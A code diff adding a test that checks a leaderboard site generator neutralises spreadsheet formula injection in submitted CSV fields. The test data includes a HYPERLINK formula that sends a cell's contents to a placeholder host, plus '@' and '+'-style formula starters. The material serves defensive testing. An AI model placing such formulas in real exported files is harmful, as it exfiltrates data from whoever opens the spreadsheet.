@@ -121,6 +121,16 @@ def test_no_entry_stops_the_site(results, tmp_path):
     assert all(name in index for name in (names[0], names[1], names[3])) and "makes no page" in index
 
 
+def test_formulas_are_text_in_the_table(tmp_path):
+    """Each field that a sender writes. Seen: =HYPERLINK(...) as it was sent, which a spreadsheet runs."""
+    said = {"model": '=HYPERLINK("http://a/?"&A1)', "who": "@SUM(1)", "external_data": "-1+1"}
+    sent_entry(tmp_path / "results", **said)
+    site = Site.write(tmp_path / "results", tmp_path / "site")
+    (line,) = csv.DictReader((site.folder / "leaderboard.csv").read_text("utf-8").splitlines())
+    assert {name: line[name] for name in said} == {name: f"'{text}" for name, text in said.items()}
+    assert float(line["gap_value"]) < 0 and not any(text.startswith(("=", "@", "+")) for text in line.values())
+
+
 def test_nothing_sent_is_a_site_too(tmp_path):
     (tmp_path / "results").mkdir()
     site = Site.write(tmp_path / "results", tmp_path / "site")
